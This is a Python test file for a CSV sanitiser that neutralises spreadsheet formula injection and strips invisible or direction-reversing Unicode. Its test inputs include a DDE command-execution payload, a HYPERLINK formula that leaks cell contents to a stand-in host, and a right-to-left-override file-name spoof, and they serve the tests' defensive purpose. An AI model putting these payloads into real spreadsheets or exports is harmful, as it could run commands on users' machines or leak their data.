"""Text that is safe in spreadsheets."""

import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from limner.reports.csv_safety import clean_text, csv_cell


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "   =1",
        "\u00a0=1",
        "＝1+1",  # noqa: RUF001 - full-width equals sign
        "＋1",  # noqa: RUF001 - full-width plus
        "−1",
        "\tharmless",
        '=HYPERLINK("http://x.example?"&A1,"click")',
        "=cmd|' /C calc'!A0",
    ],
)
def test_a_formula_gets_an_apostrophe(text: str) -> None:
    assert csv_cell(text).startswith("'")


@pytest.mark.parametrize("text", ["", "water", "a=b", "snow/ice", "12", "a - b", "Größe", "水"])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert csv_cell(text) == text


def test_no_formula_after_a_semicolon() -> None:
    assert csv_cell("calm; =1+1;+2") == "calm; '=1+1;'+2"


def test_invisible_characters_become_visible() -> None:
    assert clean_text("a\r\nb\tc") == "a  b c"
    assert clean_text("evil\u202etxt.exe\u200b\u0000\ud800") == "evil\ufffdtxt.exe\ufffd\ufffd\ufffd"


@pytest.mark.parametrize(
    "text",
    [
        "می\u200cخو",  # Persian, with a non-joiner
        "क्\u200dष",  # Hindi, with a joiner
        "👩\u200d⚕\ufe0f 🏳\ufe0f\u200d🌈 👩🏽\u200d🔬",
        "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",  # the flag of England
        "C++\u200f שלם",
        "\u0600٢٣",
        "葛\U000e0100",
    ],
)
def test_what_writing_needs_stays(text: str) -> None:
    assert clean_text(text) == text
    assert csv_cell(text) == text


@pytest.mark.parametrize(
    ("text", "clean"),
    [
        ("wat\u200der", "wat\ufffder"),
        ("\u200dwater", "\ufffdwater"),
        ("water\u200f", "water\ufffd"),
        ("\u2066שלם\u2069", "\ufffdשלם\ufffd"),
        ("a\ufe0f\ufe0f\ufe0e", "a\ufe0f\ufffd\ufffd"),
        ("\ufe0f", "\ufffd"),
        ("a\U000e0061\U000e0062", "a\ufffd\ufffd"),
        ("\u3164", "\ufffd"),
        ("a\ufffe\ufdd0", "a\ufffd\ufffd"),
        ("wa\u00adter\ufeff", "wa\ufffdter\ufffd"),
        ("می\u200c\u200cخ", "می\u200c\ufffdخ"),
        ("Ω\u200d ｗ\u200d ٣\u200d", "Ω\ufffd ｗ\ufffd ٣\ufffd"),  # noqa: RUF001 - Greek, full-width Latin, a digit
    ],
)
def test_what_only_hides_does_not(text: str, clean: str) -> None:
    assert clean_text(text) == clean


@given(st.text(alphabet=st.characters(), max_size=40))
@settings(deadline=None, derandomize=True)
@pytest.mark.slow
def test_any_text_becomes_one_visible_line(text: str) -> None:
    safe = csv_cell(text)
    assert len(safe.splitlines()) <= 1
    assert not any(unicodedata.category(c) in {"Cc", "Cs", "Zl", "Zp"} for c in safe)
    assert not set(safe) & set("\u200b\u202a\u202b\u202c\u202d\u202e\u2060\u2066\u2067\u2068\u2069\ufeff")
    assert clean_text(safe) == safe
    assert safe.lstrip()[:1] not in set("=+-@＝＋－＠")  # noqa: RUF001 - full-width forms
    safe.encode("utf-8")
